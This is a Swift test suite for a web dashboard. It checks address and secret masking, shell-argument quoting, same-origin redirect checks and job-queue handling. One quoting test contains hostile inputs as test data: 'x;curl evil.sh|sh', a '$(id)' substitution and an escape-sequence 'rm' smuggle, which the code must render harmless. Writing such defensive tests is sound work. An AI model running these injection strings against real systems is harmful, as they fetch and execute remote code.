import Foundation
import NIOConcurrencyHelpers
import Playbooks
import Storage
import Testing

@testable import Web

@Suite struct DashboardPartsTests {
    @Test func addressesAreHiddenInTextAndLinksStay() {
        let markup = "<a href=\"/touches?of=x@y.example\">550 &lt;ada.l@x.example&gt; unknown</a>, o&#39;b@z.example"
        #expect(
            AddressMask.masked(markup: markup)
                == "<a href=\"/touches?of=x@y.example\">550 &lt;a•••@x.example&gt; unknown</a>, o&#39;b•••@z.example")
        for text in ["@@ -1,3 +1,4 @@", "10:00@local", "@ada", "a•••@x.example", "no address", "x@y"] {
            #expect(AddressMask.masked(markup: text) == text)
        }
        #expect(AddressMask.masked(markup: "{\"by\":\"ülf@x.example\"}") == "{\"by\":\"ü•••@x.example\"}")
        #expect(
            AddressMask.masked(markup: "<p title=\"+14155550123\">+14155550123, 1+1, +49")
                == "<p title=\"+14155550123\">+•••23, 1+1, +49")
    }

    @Test func aCommandRunsNothingElseThanItself() {
        #expect(CommandLine(["keeptouch", "explain", "a-1.b"]).text == "keeptouch explain a-1.b")
        #expect(CommandLine(["explain", "x;curl evil.sh|sh"]).text == "explain 'x;curl evil.sh|sh'")
        #expect(CommandLine(["explain", "it's $(id)"]).text == "explain 'it'\\''s $(id)'")
        #expect(CommandLine(["explain", "a\u{1b}[201~\nrm", ""]).text == "explain 'a[201~rm' ''")
    }

    @Test func anOriginIsComparedAsBrowsersWriteIt() {
        #expect(DashboardAddress("https://Ops.Acme.example:443/kt").origin == "https://ops.acme.example")
        #expect(DashboardAddress("https://ops.acme.example:8443").origin == "https://ops.acme.example:8443")
        #expect(DashboardAddress("http://localhost:80").origin == "http://localhost")
        #expect(DashboardAddress.own("/touches?a=b") == "/touches?a=b")
        for path in ["//evil.example", "/\\evil.example", "https://evil.example", ""] {
            #expect(DashboardAddress.own(path) == nil)
        }
    }

    @Test func secretsOfAFileAreHiddenFromWhoeverReadsIt() {
        let position = Position(file: "channels/mail.yaml", line: 2, column: 10)
        let warning = Diagnostic(
            .warning, at: position, "\"token\" holds the secret itself; write env:NAME or file:PATH instead")
        let mask = SecretMask([warning])
        let text = "auth:\n  token: s3cret\npostgres: postgresql://me:pa55@db.example/x"
        #expect(
            mask.masked(text, of: "channels/mail.yaml")
                == "auth:\n  token: •••\npostgres: postgresql://•••@db.example/x")
        #expect(mask.masked("a\nb: c: d: e", of: "other.yaml") == "a\nb: c: d: e")
    }

    private func jobs() throws -> Jobs { Jobs(store: try Store(path: "", mode: .memory)) }

    /// Waits until a job has a state of its own choice; they run on a thread that no test sees.
    private func waits(_ holds: () -> Bool) -> Bool {
        let deadline = ContinuousClock.now + .seconds(30)
        while !holds() {
            guard ContinuousClock.now < deadline else { return false }
            Thread.sleep(forTimeInterval: 0.005)
        }
        return true
    }

    @Test func stoppingAJobThatWaitsLeavesTheOneThatRuns() throws {
        let jobs = try jobs()
        let (goesOn, now) = (DispatchSemaphore(value: 0), Instant(milliseconds: 1_000))
        try jobs.begin("first", by: "ada", processNow: { now }) { _ in
            goesOn.wait()
            return 1
        }
        let hasRun = NIOLockedValueBox(false)
        try jobs.begin("second", by: "ben", processNow: { now }) { _ in
            hasRun.withLockedValue { $0 = true }
            return 2
        }
        #expect(jobs.work("second")?.ahead == 1)
        #expect(jobs.generation == nil)
        #expect(jobs.stop("second"))
        #expect(!jobs.stop("second"))
        goesOn.signal()
        #expect(
            waits {
                if case .done(1, _, _) = jobs.state("first", of: Int.self, now: now) { true } else { false }
            })
        if case .none = jobs.state("second", of: Int.self, now: now) {} else { Issue.record("it is still there") }
        #expect(!hasRun.withLockedValue { $0 })
        #expect(jobs.generation != nil)
    }

    @Test func jobsAreStoppedByWhoBeganThemOrAnOperator() throws {
        let jobs = try jobs()
        let (goesOn, now) = (DispatchSemaphore(value: 0), Instant(milliseconds: 1_000))
        try jobs.begin("one", by: "ada", processNow: { now }) { _ in goesOn.wait() }
        let work = try #require(jobs.work("one"))
        func may(_ name: String, _ role: Role) -> Bool {
            work.mayBeStopped(by: Visitor(name: name, role: role, formToken: ""))
        }
        #expect(may("ada", .viewer) && may("ben", .operator) && !may("ben", .viewer))
        goesOn.signal()
    }

    @Test func theQueueAndWhatIsKeptHaveAnEnd() throws {
        let jobs = try jobs()
        let (goesOn, now) = (DispatchSemaphore(value: 0), Instant(milliseconds: 1_000))
        try jobs.begin("blocks", by: "ada", processNow: { now }) { _ in goesOn.wait() }
        for number in 0..<Jobs.mostWaiting {
            try jobs.begin("list \(number)", by: "ada", processNow: { now }, rows: { $0 }) { _ in Jobs.mostRows / 2 }
        }
        #expect(throws: PageProblem.self) {
            try jobs.begin("one more", by: "ada", processNow: { now }) { _ in 1 }
        }
        goesOn.signal()
        #expect(waits { jobs.generation != nil })
        let kept = (0..<Jobs.mostWaiting).count {
            if case .done = jobs.state("list \($0)", of: Int.self, now: now) { true } else { false }
        }
        #expect(kept <= 2)
        // A quarter of an hour later the rest is forgotten when the next one begins.
        let later = now + Jobs.lifetime
        try jobs.begin("later", by: "ada", processNow: { later }) { _ in 1 }
        #expect(waits { jobs.generation != nil })
        if case .done = jobs.state("list 19", of: Int.self, now: now) { Issue.record("it is kept for ever") }
    }
}
